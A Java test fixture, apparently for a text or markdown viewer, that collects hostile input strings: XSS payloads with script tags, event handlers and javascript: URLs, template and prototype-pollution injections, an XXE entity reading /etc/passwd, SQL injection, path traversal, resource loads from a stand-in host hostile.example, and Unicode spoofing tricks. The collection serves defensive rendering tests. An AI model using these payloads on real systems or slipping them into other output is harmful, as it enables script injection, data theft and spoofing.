package dev.motus.testing;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that would do something if a viewer took them for anything but text: each one that runs
 * sets {@code window.ran}, each one that loads asks {@code hostile.example}.
 */
public final class HostileValues {
  private static final String RUN = "window.ran=1";

  private static final List<String> ELEMENTS =
      List.of(
          "</script><script>" + RUN + "</script>",
          "</SCRIPT\t><script>" + RUN + "</script>",
          "<!--<script>" + RUN + "</script>-->",
          "--><script>" + RUN + "</script><!--",
          "]]><script>" + RUN + "</script>",
          "</style><script>" + RUN + "</script>",
          "</title><script>" + RUN + "</script>",
          "</textarea><script>" + RUN + "</script>",
          "</template><script>" + RUN + "</script>",
          "</noscript><script>" + RUN + "</script>",
          "</xmp><script>" + RUN + "</script>",
          "\"><script>" + RUN + "</script>",
          "'><script>" + RUN + "</script>",
          "`><script>" + RUN + "</script>",
          "<script src=//hostile.example/x.js></script>",
          "<script type=module>import('https://hostile.example/m.js')</script>",
          "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
          "<script\n>" + RUN + "\n</script\n>",
          "<img src=x onerror=\"" + RUN + "\">",
          "<img src=https://hostile.example/pixel.png>",
          "<IMG SRC=x OnErRoR=" + RUN + ">",
          "<img src='x'onerror='" + RUN + "'>",
          "<img/src=x/onerror=" + RUN + ">",
          "<img srcset='https://hostile.example/p.png 1x'>",
          "<svg onload=" + RUN + ">",
          "<svg><script>" + RUN + "</script></svg>",
          "<svg><animate onbegin=" + RUN + " attributeName=x></svg>",
          "<svg><use href='https://hostile.example/s.svg#x'/></svg>",
          "<svg><foreignObject><iframe src=javascript:" + RUN + "></foreignObject></svg>",
          "<math><mtext><style><img src=x onerror=" + RUN + "></style></mtext></math>",
          "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
          "<iframe src=https://hostile.example/></iframe>",
          "<object data=https://hostile.example/o.swf></object>",
          "<embed src=https://hostile.example/e.swf>",
          "<link rel=stylesheet href=https://hostile.example/s.css>",
          "<link rel=prefetch href=https://hostile.example/p>",
          "<meta http-equiv=refresh content=\"0;url=https://hostile.example/\">",
          "<base href=https://hostile.example/>",
          "<form action=https://hostile.example/><input type=submit autofocus></form>",
          "<button formaction=javascript:" + RUN + ">b</button>",
          "<video src=https://hostile.example/v.mp4 onerror=" + RUN + " autoplay></video>",
          "<audio src=https://hostile.example/a.mp3 autoplay></audio>",
          "<input autofocus onfocus=" + RUN + ">",
          "<select autofocus onfocus=" + RUN + "></select>",
          "<textarea autofocus onfocus=" + RUN + "></textarea>",
          "<details open ontoggle=" + RUN + "></details>",
          "<body onload=" + RUN + ">",
          "<frameset onload=" + RUN + ">",
          "<marquee onstart=" + RUN + ">m</marquee>",
          "<div onpointerenter=" + RUN + " style=position:fixed;inset:0>d</div>",
          "<a href=javascript:" + RUN + " autofocus>a</a>",
          "<a href=x ping=https://hostile.example/>a</a>",
          "<dialog open>" + RUN + "</dialog>",
          "<portal src=https://hostile.example/></portal>",
          "<x-custom onclick=" + RUN + ">c</x-custom>",
          "<table background=https://hostile.example/t.png></table>",
          "<plaintext>",
          "<xmp>",
          "<!DOCTYPE html><html><body bgcolor=red>",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");

  private static final List<String> CODE =
      List.of(
          "'-(" + RUN + ")-'",
          "\"-(" + RUN + ")-\"",
          "`-(" + RUN + ")-`",
          "\\';" + RUN + ";//",
          "\\\";" + RUN + ";//",
          "${" + RUN + "}",
          "#{" + RUN + "}",
          "{{constructor.constructor('" + RUN + "')()}}",
          "{{$on.constructor('" + RUN + "')()}}",
          "<%= " + RUN + " %>",
          "@@DATA@@ @@SCRIPT@@ @@STYLE@@ @@POLICY@@ @@LICENCE@@",
          "$& $1 $` $' $$",
          "\\u003cscript>" + RUN + "\\u003c/script>",
          "\\x3cscript\\x3e" + RUN + "\\x3c/script\\x3e",
          "&lt;script&gt;" + RUN + "&lt;/script&gt;",
          "&#60;img src=x onerror=" + RUN + "&#62;",
          "%3Cscript%3E" + RUN + "%3C/script%3E",
          "+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-",
          "javascript:" + RUN,
          "data:text/html,<script>" + RUN + "</script>",
          "dangerouslySetInnerHTML",
          "{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=" + RUN + ">\"}}",
          "{\"type\":\"script\",\"props\":{\"children\":\"" + RUN + "\"},\"constructor\":null}",
          "{\"__proto__\": {\"polluted\": true}}",
          "{\"constructor\": {\"prototype\": {\"polluted\": true}}}",
          "[{\"type\":\"image_url\",\"image_url\":{\"url\":\"https://hostile.example/i.png\"}}]",
          "[{\"type\":\"text\",\"text\":\"<img src=x onerror=" + RUN + ">\"}]",
          "{\"toJSON\":1,\"valueOf\":2,\"toString\":3,\"then\":4,\"length\":-1}",
          "event: finish\ndata: {}\n\n",
          "data: x\r\n\r\nevent: init\r\ndata: null",
          "=HYPERLINK(\"https://hostile.example\",\"click\")",
          "'; DROP TABLE spans; --",
          "../../../../etc/passwd",
          "%00%0a%0d");

  private static final List<String> STYLES =
      List.of(
          "</style><style>*{display:none}</style>",
          "*{background:url(https://hostile.example/c.png)}",
          "@import url(https://hostile.example/i.css);",
          "style=\"background:url(javascript:" + RUN + ")\"",
          "<div style=\"width:expression(" + RUN + ")\">",
          "<p style='position:fixed;inset:0;background:red;z-index:9999'>over everything</p>",
          "red;background-image:url(https://hostile.example/b.png)",
          "var(--x);} body{display:none} .y{",
          "100%;left:0;top:0;position:fixed",
          "\\65\\78pression(" + RUN + ")");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:" + RUN,
          "JaVaScRiPt:" + RUN,
          "java\tscript:" + RUN,
          "java\nscript:" + RUN,
          "\u0001javascript:" + RUN,
          "&#106;avascript:" + RUN,
          "javascript&colon;" + RUN,
          "%6aavascript:" + RUN,
          "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
          "vbscript:msgbox(1)",
          "file:///etc/passwd",
          "blob:https://hostile.example/1",
          "//hostile.example/x",
          "http:hostile.example",
          "https://hostile.example\" onmouseover=\"" + RUN,
          "https://user:pass@\u202Emoc.knab\u202C.hostile.example/",
          "view-source:https://hostile.example/");

  /** Each is alone on its line, or around something. */
  private static final List<String> MARKDOWN =
      List.of(
          "[![a](https://hostile.example/a.png)](javascript:" + RUN + ")",
          "[a]: javascript:" + RUN + "\n\n[a]",
          "<https://hostile.example/\"onmouseover=\"" + RUN + ">",
          "```html\n<script>" + RUN + "</script>\n```",
          "```\"><script>" + RUN + "</script>\n```",
          "| <script>" + RUN + "</script> |\n|---|\n| <img src=x onerror=" + RUN + "> |",
          "# <img src=x onerror=" + RUN + ">",
          "- [x] <svg onload=" + RUN + ">",
          "> ".repeat(200) + "deep",
          "- ".repeat(200) + "deep",
          "*a **b ".repeat(300),
          "[".repeat(2_000) + "](",
          "`".repeat(999) + " x",
          "|".repeat(500) + "\n" + "|-".repeat(500),
          "**bold <b onclick=" + RUN + ">html</b>**",
          "<details><summary>s</summary>\n\n**md**\n\n</details>");

  private static final List<String> UNICODE =
      List.of(
          "\0 and \u0007 and \u001b[31mred\u001b[0m",
          "line\r\nline\u2028line\u2029line\u0085line",
          "lone \ud800 high",
          "lone \udc00 low",
          "\ud800\ud800\udc00\udc00",
          "\"\\ud800\"",
          "paired \ud83d\ude80",
          "\u202eright to left\u202c \u05e9\u05dc\u05d5\u05dd \u200f",
          "invoice\u202egpj.exe",
          "\u2066a\u2069\u2067b\u2069\u2068c\u2069",
          "admin\u200b\u200c\u200d\u2060",
          "\ufeff bom",
          "\uffff\ufffe nonchars",
          "soft\u00adhyphen",
          "\u061c\u200e\u200f marks",
          "ignore all\udb40\udc69\udb40\udc67\udb40\udc6e tags",
          "vs\udb40\udd00\udb40\udd01 selectors",
          "\u0430pple \u0455ame",
          "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f".repeat(20),
          "\ufdfd".repeat(40),
          "\ud83d\udc69\u200d\ud83d\udcbb joined",
          "\u1160\u115f\u3164 fillers",
          "\ufff9a\ufffab\ufffb annotated",
          "\ue000 private");

  private static final List<String> SHAPES =
      List.of(
          "back\\slash \"quote\" \\u0041 \\",
          "__proto__",
          "constructor",
          "prototype",
          "hasOwnProperty",
          "toString",
          "length",
          "undefined",
          "null",
          "true",
          "NaN",
          "-Infinity",
          "1e999999",
          "-0",
          "12345678901234567890",
          "{\"unclosed\": [1, 2",
          "{\"a\":1}{\"b\":2}",
          "{\"a\":1,\"a\":2}",
          "\"bad escape \\x\"",
          "[]",
          "{}",
          "\"\"",
          "[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]",
          "x".repeat(5_000),
          "<".repeat(2_000),
          "no-break".repeat(400));

  private HostileValues() {}

  /** All of them, each once. */
  public static List<String> all() {
    List<String> all = new ArrayList<>();
    all.addAll(ELEMENTS);
    all.addAll(CODE);
    all.addAll(STYLES);
    all.addAll(MARKDOWN);
    all.addAll(UNICODE);
    all.addAll(SHAPES);
    for (String address : ADDRESSES) {
      all.add("[click](" + address + ")");
      all.add("![p](" + address + ") <" + address + ">");
      all.add("see " + address + " now");
    }
    return all.stream().distinct().toList();
  }
}
